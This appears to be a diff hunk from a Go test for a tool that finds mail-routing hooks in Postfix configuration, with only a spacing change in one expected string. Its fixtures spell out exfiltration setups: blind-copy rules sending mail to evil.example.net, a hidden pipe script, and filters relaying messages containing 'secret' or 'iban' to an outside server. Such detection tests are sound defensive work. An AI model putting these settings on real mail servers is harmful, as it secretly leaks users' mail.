@@ -69,7 +69,7 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/master.cf:scan/unix:pipe | pipe | command /usr/local/lib/.scan.sh -f ${sender} | observe divert modify drop execute | inactive"}},
 		{"bcc", "always_bcc = drop@evil.example.net\nsender_bcc_maps = inline:{ {a@example.test = x@evil.example.net}, b@example.test=root }\n", nil, []string{
 			"/etc/postfix/main.cf:always_bcc:1 | copy | address drop@evil.example.net | copy | remote",
-			"/etc/postfix/main.cf:sender_bcc_maps:1 | map | table inline:{ {a@example.test = x@evil.example.net}, b@example.test=root } | copy",
+			"/etc/postfix/main.cf:sender_bcc_maps:1 | map | table inline:{{a@example.test = x@evil.example.net}, b@example.test=root} | copy",
 			"/etc/postfix/main.cf:sender_bcc_maps:a@example.test | copy | address x@evil.example.net | copy | remote",
 			"/etc/postfix/main.cf:sender_bcc_maps:b@example.test | copy | address root | copy"}},
 		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/(y)/ ${1}\n"}, []string{
